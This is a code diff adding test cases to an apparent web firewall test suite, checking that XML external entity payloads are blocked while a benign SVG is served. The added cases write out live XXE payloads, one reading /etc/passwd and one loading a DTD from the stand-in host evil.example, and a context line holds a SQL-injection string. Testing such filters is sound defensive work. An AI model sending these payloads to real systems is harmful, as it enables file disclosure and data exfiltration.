@@ -1377,6 +1377,43 @@ pub fn table() -> Vec<Case> {
         b"<?xml version=\"1.0\"?><!DOCTYPE order [<!ENTITY p \"x' or '1'='1\">]><order><item><note>&p;</note></item></order>".to_vec(),
     ));
     v.push(c);
+    // External entities (XXE): served before the `xxe` check; an XML
+    // parser that resolves them reads the file for the sender.
+    let mut c = case(
+        "xml external entity",
+        "POST",
+        "/api/items",
+        Blocked("xxe", "post_values"),
+    );
+    c.body = Some((
+        "application/xml",
+        b"<?xml version=\"1.0\"?><!DOCTYPE order [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><order><item><note>&x;</note></item></order>".to_vec(),
+    ));
+    v.push(c);
+    let mut c = case(
+        "xml external entity in a json value",
+        "POST",
+        "/api/items",
+        Blocked("xxe", "json_values"),
+    );
+    c.body = Some((
+        JSON,
+        br#"{"soap": "<!DOCTYPE e [<!ENTITY % d SYSTEM 'http://evil.example/x.dtd'> %d;]><e/>"}"#
+            .to_vec(),
+    ));
+    v.push(c);
+    let mut c = case(
+        "benign svg with its public doctype",
+        "POST",
+        "/api/items",
+        Served,
+    );
+    c.body = Some((
+        "image/svg+xml",
+        b"<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg xmlns=\"http://www.w3.org/2000/svg\"><title>Logo</title></svg>".to_vec(),
+    ));
+    c.echo = true;
+    v.push(c);
     let mut c = case("benign xml", "POST", "/api/items", Served);
     c.body = Some(("application/xml", xml("O'Brien's pick, leave at the door")));
     c.echo = true;
